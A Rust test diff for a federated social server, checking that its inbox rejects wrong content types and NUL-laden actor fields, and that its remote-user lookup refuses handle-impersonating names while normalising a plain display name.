+        let post_inbox = |content_type: Option<&'static str>, body: &'static str| {
+            let inbox = inbox.clone();
+            async move {
+                let mut request = api_client().post(inbox).body(body);
+                if let Some(content_type) = content_type {
+                    request = request.header("content-type", content_type);
+                }
+                Answer::of(request.send().await.unwrap()).await
+            }
+        };
+        let activity = r#"{"type": "Create", "actor": "http://peer.example/users/x"}"#;
+        for content_type in [
+            Some("text/plain"),
+            Some("application/x-www-form-urlencoded"),
+            None,
+        ] {
+            let answer = post_inbox(content_type, activity).await;
+            assert_eq!(answer.status, 415, "{content_type:?}: {}", answer.body);
+            assert_eq!(answer.code(), "unsupported_media_type");
+        }
+        for content_type in [
+            "application/activity+json",
+            "application/ld+json; profile=\"https://www.w3.org/ns/activitystreams\"",
+            "application/json; charset=utf-8",
+        ] {
+            let answer = post_inbox(Some(content_type), activity).await;
+            assert_eq!(answer.code(), "signature_missing", "{content_type}");
+        }
+        let answer = post_inbox(
+            Some("application/activity+json"),
+            r#"{"type": "Create", "actor": "http://peer.example/users/x\u0000"}"#,
+        )
+        .await;
+        api_refused("inbox NUL", &answer, Some("invalid_text"));
+
+        // A remote user name that reads as another handle is refused
+        // before it is stored; a plain one on the same server is taken,
+        // with its display name normalised.
+        let document: Value = api_client()
+            .get(instance.url("/users/anne"))
+            .header("accept", "application/activity+json")
+            .send()
+            .await
+            .unwrap()
+            .json()
+            .await
+            .unwrap();
+        let pem = document["publicKey"]["publicKeyPem"]
+            .as_str()
+            .unwrap()
+            .to_string();
+        let origin = fake_server(pem).await;
+        let host = origin.trim_start_matches("http://").to_string();
+        let lookup = |name: &str| {
+            let url = api(&format!("/lookup?handle={name}@{host}"));
+            let anne = anne.clone();
+            async move {
+                Answer::of(
+                    api_client()
+                        .get(url)
+                        .bearer_auth(anne)
+                        .send()
+                        .await
+                        .unwrap(),
+                )
+                .await
+            }
+        };
+        let answer = lookup("bob").await;
+        assert_eq!(answer.status, 200, "{}", answer.body);
+        let bob: Value = serde_json::from_str(&answer.body).unwrap();
+        assert_eq!(bob["display_name"], "Nametxt.exe", "{bob}");
+        let store = &instance.running.state.domain.store;
+        for name in ["alice", "rlo"] {
+            let answer = lookup(name).await;
+            // The documented answer of a remote that cannot be taken.
+            assert_eq!(answer.status, 502, "{name}: {}", answer.body);
+            assert_eq!(answer.code(), "lookup_failed", "{name}");
+            let stored = store
+                .actor_by_ap_id(&format!("{origin}/users/{name}"))
+                .await
+                .unwrap();
+            assert!(stored.is_none(), "{name} was stored");
+        }
+        still_alive(&instance, "after the classes").await;
+        instance.stop().await;
+    }
+}
